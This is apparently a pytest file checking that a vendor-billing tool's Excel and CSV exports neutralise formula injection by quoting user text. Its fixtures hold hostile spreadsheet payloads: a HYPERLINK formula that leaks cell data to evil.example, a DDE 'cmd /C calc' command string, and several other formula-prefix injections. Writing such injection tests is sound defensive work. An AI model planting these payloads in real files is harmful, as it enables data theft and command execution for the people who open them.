"""Exports are inert (issue 12, point 8): text a user typed (an adjustment description, a payee, a
vendor id) never becomes a formula in a workbook the product writes, and every CSV it writes
prefixes such text with `'` while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from conftest import write_data

from metrics import inert
from metrics.config import SAMPLE_DATA
from metrics.ingest import sources_in_dir
from metrics.loading import ingest

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
INJECTIONS = (HYPERLINK, "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")


@pytest.fixture(scope="module")
def injected(tmp_path_factory) -> Path:
    """The sample data with a payee `=1+1`, a vendor id `=cmd|' /C calc'!A0` and adjustments whose
    descriptions are the classic injections, loaded."""
    root = tmp_path_factory.mktemp("injected")
    data = root / "data"
    for kind in ("vendors", "contracts", "rates", "sla_targets", "service_hours", "holidays", "calls"):
        for f in (SAMPLE_DATA / kind).glob("*.csv"):
            (data / kind).mkdir(parents=True, exist_ok=True)
            (data / kind / f.name).write_bytes(f.read_bytes())
    contracts = data / "contracts" / "part-0001.csv"
    contracts.write_text(
        contracts.read_text().replace(
            "C-PT,V-PT,2026-01-01,,CNY,0.03,5,,,,,,", "C-PT,V-PT,2026-01-01,,CNY,0.03,5,,,,,,=1+1"
        )
    )
    rows = "".join(f'C-TEL,2026-10,"{d.replace(chr(34), chr(34) * 2)}",-{n}.50\n' for n, d in enumerate(INJECTIONS, 1))
    write_data(data, {"adjustments": "contract_id,month,description,amount\n" + rows})
    with (data / "vendors" / "part-0001.csv").open("a") as f:
        f.write("=cmd|' /C calc'!A0,Injected Ltd,Asia/Shanghai\n")
    with (data / "contracts" / "part-0001.csv").open("a") as f:
        f.write("C-X,=cmd|' /C calc'!A0,2026-01-01,,CNY,0.06,5,100,,,,,@payee,\n")  # late_payment_rate empty
    db = root / "vb.duckdb"
    ingest(db, sources_in_dir(data))
    return db


def vendorboard(db: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "metrics.cli", "--db", str(db), *args], check=True, capture_output=True, text=True
    )


def cells(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [cell for ws in book for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_no_cell_of_the_report_workbook_is_a_formula_and_the_text_is_kept(injected, tmp_path):
    vendorboard(injected, "report", "--month", "2026-10", "--out", str(tmp_path / "r"))
    found = cells(tmp_path / "r" / "report-2026-10.xlsx")
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    texts = {c.value for c in found if c.data_type == "s"}
    assert {HYPERLINK, "+1+1", "@SUM(1,2)", "=1+1", "=cmd|' /C calc'!A0", "@payee"} <= texts
    # the vendor with an id Excel would not take as a sheet name has its own sheet all the same
    assert "=cmd|' _C calc'!A0" in openpyxl.load_workbook(tmp_path / "r" / "report-2026-10.xlsx").sheetnames


def test_no_cell_of_an_invoice_workbook_is_a_formula(injected, tmp_path):
    out = tmp_path / "inv.xlsx"
    vendorboard(injected, "invoice", "--month", "2026-10", "--contract", "C-TEL", "--format", "xlsx", "--out", str(out))
    found = cells(out)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    assert {HYPERLINK, "-2+3", "\t=1+1"} <= {c.value for c in found}
    amounts = [c.value for c in found if isinstance(c.value, (int, float)) and c.value in (-1.5, -2.5, -3.5)]
    assert sorted(amounts) == [-3.5, -2.5, -1.5]  # money stays numbers


def test_report_csvs_prefix_formula_text_and_keep_numbers(injected, tmp_path):
    vendorboard(injected, "report", "--month", "2026-10", "--out", str(tmp_path / "r"))
    rows = list(csv.DictReader((tmp_path / "r" / "invoice_lines.csv").open(encoding="utf-8", newline="")))
    adjustments = [r for r in rows if r["type"] == "adjustment" and r["contract_id"] == "C-TEL"]
    # each description as written, behind a quote; amounts as plain (negative) numbers
    assert sorted((r["description"], r["amount"]) for r in adjustments) == sorted(
        ("'" + d, f"-{n}.50") for n, d in enumerate(INJECTIONS, 1)
    )


def test_cli_csv_output_is_inert(injected):
    out = vendorboard(injected, "invoice", "--month", "2026-10", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    assert {r["payee"] for r in rows if r["contract_id"] == "C-PT"} == {"'=1+1"}
    assert {r["vendor_id"] for r in rows if r["contract_id"] == "C-X"} == {"'=cmd|' /C calc'!A0"}
    assert [r["amount"] for r in rows if r["contract_id"] == "C-X" and r["type"] == "total"] == ["106.00"]


def test_the_helper_touches_text_only():
    frame = pl.DataFrame({"text": [*INJECTIONS, "ok", None, " =x"], "amount": [-1.5, 2, 3, 4, 5, 6, 7, 8, 9]})
    out = inert.frame(frame)
    assert out["text"].to_list() == [*("'" + d for d in INJECTIONS), "ok", None, " =x"]
    assert out["amount"].to_list() == frame["amount"].to_list() and out.schema == frame.schema
    assert [inert.cell(v) for v in ("=1", -3, None, "a=b")] == ["'=1", -3, None, "a=b"]
